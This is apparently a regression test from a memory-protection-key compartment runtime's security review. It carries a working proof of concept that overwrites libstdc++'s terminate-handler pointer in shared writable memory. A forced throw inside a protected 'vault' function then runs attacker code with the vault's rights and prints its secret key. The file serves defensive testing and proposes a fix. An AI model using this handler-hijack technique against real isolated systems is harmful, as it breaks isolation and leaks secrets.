// Review 30b, attacker model A (one key-0 store, no system call).
// Whatever the unwinder's copies (runtime/unwind-copy.c) refuse, and every
// throw that finds no handler or leaves a noexcept function, ends in
// std::terminate, which libstdc++ runs with the thrower's rights: it calls
// the terminate handler (std::set_terminate's), read from libstdc++'s
// __cxxabiv1::__terminate_handler (its .data, key-0 writable, not mangled)
// or from the exception's header (shared heap, key-0), which __cxa_throw
// filled from it. Here a vault's noexcept function calls std::vector::at
// with an index out of range (the kind of input a caller chooses): the
// search phase stops at the noexcept frame and __cxa_call_terminate calls
// the handler with the vault's rights. The program finds the word by its
// contents (the address of __gnu_cxx::__verbose_terminate_handler, in
// key-0 writable pages: a fixed offset in libstdc++'s binary) and stores
// there the address of steal, code of the program's whose address is
// taken in asm (no gate wraps it). The vault's terminate then runs it
// with the vault's rights: it copies the vault's key, prints it and exits
// (ATTACK SUCCEEDED, seen in the guest, review 30b). The same for a
// vault's throw nobody catches, and for a frame whose copy the runtime
// refuses (attacks-rev30-unwind-large-lsda.cpp: __cxa_throw's terminate).
// threat-model.md listed "libstdc++'s new and terminate handlers" as not
// tried. The control stores nothing and ends in libstdc++'s verbose
// handler.
// Suggested fix: with a compartment's rights, std::terminate must not take
// its handler from key-0 memory: the runtime could define std::terminate
// and __cxa_call_terminate's path (or interpose libstdc++'s handler
// word's readers) so that a compartment's terminate goes through a
// trampoline into the default domain first, as exit does (design.md), or
// ends the process with one line.
// XFAIL: *
// REQUIRES: pku
// RUN: %bulkhead_clangxx -fpkey-compartments -O2 %s -ldl -o %t
// RUN: not %run %t control 2>&1 | FileCheck %s --check-prefix=CONTROL
// RUN: not %run %t 2>&1 | FileCheck %s
// CONTROL: handler words: 0
// CONTROL: terminate called after throwing an instance of 'std::out_of_range'
// CHECK: handler words: 1
// CHECK-NOT: ATTACK SUCCEEDED
#include <bulkhead.h>
#include <dlfcn.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <vector>

BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";

__attribute__((noinline)) static int lookup(int i) noexcept {
  std::vector<int> v(3);
  return v.at((size_t)i); /* throws out_of_range inside a noexcept frame */
}
extern "C" BULKHEAD_ENTRY(vault) int vault_lookup(int i) { return lookup(i); }

static char stolen[64] = "ATTACK SUCCEEDED: ";
static const char *volatile from = vault_key; /* key-0 words */
extern "C" __attribute__((used)) void take(void) {
  int n = 18;
  for (int i = 0; i < 31 && from[i]; i++)
    stolen[n++] = from[i];
  stolen[n++] = '\n';
  write(1, stolen, n);
  _exit(0);
}
__asm__(".text\n"
        ".globl steal\n"
        ".type steal, @function\n"
        "steal:\n"
        "  andq $-16, %rsp\n"
        "  call take\n"
        "  ud2\n"
        ".size steal, .-steal\n");

/* Replaces every key-0 writable word holding OLD by NEW; how many. */
static int replace(uintptr_t old, uintptr_t now) {
  FILE *f = fopen("/proc/self/smaps", "r");
  char line[512];
  uintptr_t lo = 0, hi = 0;
  int rw = 0, n = 0, key;
  while (f && fgets(line, sizeof line, f)) {
    uintptr_t l, h;
    char perms[8];
    if (sscanf(line, "%lx-%lx %4s", &l, &h, perms) == 3) {
      lo = l, hi = h, rw = perms[0] == 'r' && perms[1] == 'w';
      rw = rw && !strstr(line, "[stack]");
      continue;
    }
    if (sscanf(line, "ProtectionKey: %d", &key) != 1 || !rw || key)
      continue;
    for (uintptr_t *w = (uintptr_t *)lo; w + 1 <= (uintptr_t *)hi; w++)
      if (*w == old) {
        if (now)
          *w = now; /* the store that matters */
        n++;
      }
  }
  if (f)
    fclose(f);
  return n;
}

int main(int argc, char **argv) {
  (void)argv;
  uintptr_t handler =
      (uintptr_t)dlsym(RTLD_DEFAULT, "_ZN9__gnu_cxx27__verbose_terminate_handlerEv");
  uintptr_t p = 0;
  if (argc < 2)
    __asm__("leaq steal(%%rip), %0" : "=r"(p));
  printf("handler words: %d\n", handler ? replace(handler, p) > 0 && p : -1);
  fflush(stdout);
  printf("looked up: %d\n", vault_lookup(7));
  return 0;
}
